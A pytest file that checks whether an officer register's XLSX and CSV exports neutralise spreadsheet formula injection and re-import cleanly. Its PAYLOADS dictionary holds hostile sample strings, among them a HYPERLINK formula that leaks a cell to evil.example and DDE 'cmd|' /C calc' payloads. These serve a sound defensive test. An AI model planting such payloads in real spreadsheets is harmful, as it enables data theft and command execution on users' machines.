"""Formula injection (issue 17): a name or number starting with = + - @ TAB or CR is never exported as a formula,
in XLSX (text cells, no <f> element) or CSV (a leading apostrophe, OWASP "CSV injection"), by the API or the
CLI; and an exported sheet imports back with exactly its values, hostile names included."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest

from core.clock import business_today
from core.errors import Invalid
from core.tables import AuditEvent
from register.accreditations import services as accreditations
from register.tables import Officer
from reports import exports
from reports.spreadsheets import FORMULA_TRIGGERS, neutralise, unneutralise
from tests.cli.test_cli import csas
from tests.factories import SYSTEM, World, make_officer

TODAY = business_today()
# One payload per trigger (the CR one is only tested below the API: a bare CR inside a name is a control
# character, a separate hole of issue 17).
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A2,"Payroll")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# A value that already starts with an apostrophe before a trigger: must round-trip too.
QUOTED = "'=1+1"
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_neutralise_prefixes_every_trigger_and_unneutralise_undoes_exactly_that(trigger: str) -> None:
    for value in (trigger, trigger + "x", trigger + "=HYPERLINK(1)", "'" + trigger + "x", "''" + trigger):
        written = neutralise(value)
        assert written == "'" + value
        assert unneutralise(written) == value


@pytest.mark.parametrize("value", ["O'Brien", "'Tis", "'", "''", "x=1", "a-b", "", "2025-01-01", "Zoë £",
                                   " =1", "'x=1"])
def test_harmless_text_is_left_alone_both_ways(value: str) -> None:
    assert neutralise(value) == value
    assert unneutralise(value) == value


def test_only_text_is_neutralised() -> None:
    for value in (-5, -2.5, dt.date(2025, 1, 1), None, True):
        assert neutralise(value) is value


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
@pytest.mark.parametrize("dataset", exports.DATASETS)
def test_render_never_writes_a_formula_for_any_trigger(dataset: str, trigger: str) -> None:
    """Below the API, every column of every dataset, so TAB and CR are covered whatever names may hold."""
    value = PAYLOADS[trigger]
    columns = exports.COLUMNS[dataset]
    row: dict[str, Any] = {column: value for column in columns}
    dated = [c for c in columns if c.endswith("_on") or c == "usable_until"]
    row |= {column: dt.date(2024, 1, 15) for column in dated}
    content = exports.render(dataset, "xlsx", [row])
    cells = _assert_no_formula(content)[1]
    for column, cell in zip(columns, cells, strict=True):
        if column in dated:  # a real date cell, not text
            assert isinstance(cell, dt.datetime) and cell.date() == dt.date(2024, 1, 15)
        else:  # XML reads a bare CR back as LF; what matters is that the cell is text
            assert cell.replace("\n", "\r") == "'" + value, (column, cell)
    content = exports.render(dataset, "csv", [row])
    header, written = _csv(content)  # CRLF line ends: a bare CR inside a value is quoted, never a line break
    assert header == columns
    for column, cell in zip(columns, written, strict=True):
        assert cell == ("2024-01-15" if column in dated else "'" + value), (column, cell)


async def _hostile_officers(world: World) -> dict[str, dict[str, Any]]:
    """One officer of Council A1 per trigger the register accepts in a name, each with an accreditation whose
    number starts with the trigger (the register trims surrounding whitespace from numbers)."""
    made: dict[str, dict[str, Any]] = {}
    for index, trigger in enumerate(t for t in FORMULA_TRIGGERS if t != "\r"):
        payload = PAYLOADS[trigger]
        try:
            officer = await make_officer(
                world.orgs["A1"], world.teams["A1a"], f"{trigger}X{index}", given_name=payload,
                family_name=trigger + "Smith", email=f"hostile{index}@a1.example")
        except Invalid:  # the register refuses this character in names: covered by the render test above
            continue
        accreditation = await accreditations.grant_accreditation(
            SYSTEM, officer_id=officer["id"], force_id=world.forces["A"], number=trigger + f"ACC-{index}",
            granted_on=TODAY - dt.timedelta(days=30), expires_on=TODAY + dt.timedelta(days=120),
            power_codes=["FPN_LITTER"], conditions="", today=TODAY)
        made[trigger] = officer | {"number": accreditation["number"]}  # stored stripped of a TAB
    quoted = await make_officer(world.orgs["A1"], world.teams["A1a"], "QUOTED1", given_name=QUOTED,
                                family_name="'Brien", email="quoted@a1.example")
    made["'"] = quoted | {"number": None}
    assert {"=", "+", "-", "@"} <= set(made)
    return made


def _workbook(content: bytes) -> Any:
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(content)).active


def _sheet_xml(content: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]


def _assert_no_formula(content: bytes) -> list[list[Any]]:
    sheet = _workbook(content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    for xml in _sheet_xml(content):
        assert not FORMULA_ELEMENT.search(xml), xml[:300]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _expected_cells(officers: dict[str, dict[str, Any]], dataset: str) -> set[str]:
    """The cells the hostile officers' rows must hold, as written: with one more leading apostrophe."""
    out: set[str] = set()
    for trigger, officer in officers.items():
        if trigger == "'":
            out |= {"''=1+1", "'Brien"} if dataset == "officers" else set()
            continue
        out.add("'" + officer["staff_number"])
        if dataset == "officers":
            out |= {"'" + officer["given_name"], "'" + officer["family_name"]}
        elif officer["number"][0] == trigger:
            out.add("'" + officer["number"])
    return out


@pytest.mark.parametrize("dataset", ["officers", "accreditations"])
async def test_exports_of_hostile_values_hold_no_formula(client: httpx.AsyncClient, world: World,
                                                         dataset: str) -> None:
    expected = _expected_cells(await _hostile_officers(world), dataset)
    xlsx = await client.get(f"/api/exports/{dataset}.xlsx", headers=world.auth("admin"))
    assert xlsx.status_code == 200
    values = {v for row in _assert_no_formula(xlsx.content) for v in row if isinstance(v, str)}
    assert expected <= values, expected - values
    reply = await client.get(f"/api/exports/{dataset}.csv", headers=world.auth("admin"))
    assert reply.status_code == 200
    cells = {cell for row in _csv(reply.content) for cell in row}
    assert expected <= cells, expected - cells
    for cell in cells:  # no cell of the CSV starts with a trigger
        assert not cell.startswith(FORMULA_TRIGGERS), cell


async def test_the_cli_export_holds_no_formula(world: World, tmp_path: Path) -> None:
    officers = await _hostile_officers(world)
    expected = _expected_cells(officers, "officers")
    for fmt in ("xlsx", "csv"):
        target = tmp_path / f"officers.{fmt}"
        result = csas("export", "officers", str(target))
        assert result.returncode == 0, result.stderr
        if fmt == "xlsx":
            values = {v for row in _assert_no_formula(target.read_bytes()) for v in row}
        else:
            values = {cell for row in _csv(target.read_bytes()) for cell in row}
            assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in values)
        assert expected <= values, (fmt, expected - values)


async def _register() -> list[dict[str, Any]]:
    return await Officer.select(Officer.id, Officer.staff_number, Officer.given_name, Officer.family_name,
                                Officer.email, Officer.team, Officer.started_on).order_by(Officer.id)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_an_exported_sheet_imports_back_unchanged(client: httpx.AsyncClient, world: World,
                                                        fmt: str) -> None:
    officers = await _hostile_officers(world)
    before = await _register()
    audits = await AuditEvent.count()
    sheet = await client.get(f"/api/exports/officers.{fmt}", headers=world.auth("hr_a1"))
    assert sheet.status_code == 200
    reply = await client.post("/api/imports/officers", headers=world.auth("hr_a1"),
                              files={"file": (f"officers.{fmt}", sheet.content, "application/octet-stream")})
    assert reply.status_code == 200, reply.text
    body = reply.json()
    assert (body["created"], body["updated"], body["errors"]) == (0, 0, []), body
    assert body["unchanged"] == body["rows"] == 4 + len(officers)
    assert await _register() == before
    assert await AuditEvent.count() == audits
    stored = {o["staff_number"]: o for o in before}
    for officer in officers.values():
        assert stored[officer["staff_number"]]["given_name"] == officer["given_name"]


async def test_an_import_undoes_only_the_export_s_apostrophe(client: httpx.AsyncClient, world: World) -> None:
    sheet = ("organisation,staff_number,given_name,family_name,email,started_on\n"
             "Council A1,'-N1,'=SUM(1+1),O'Brien,n1@a1.example,2025-01-01\n"
             "Council A1,N2,'Tis,''@home,n2@a1.example,2025-01-01\n")
    reply = await client.post("/api/imports/officers", headers=world.auth("hr_a1"),
                              files={"file": ("people.csv", sheet.encode(), "text/csv")})
    assert reply.status_code == 200, reply.text
    assert reply.json()["created"] == 2
    rows = {r["staff_number"]: r for r in await _register()}
    assert (rows["-N1"]["given_name"], rows["-N1"]["family_name"]) == ("=SUM(1+1)", "O'Brien")
    assert (rows["N2"]["given_name"], rows["N2"]["family_name"]) == ("'Tis", "'@home")
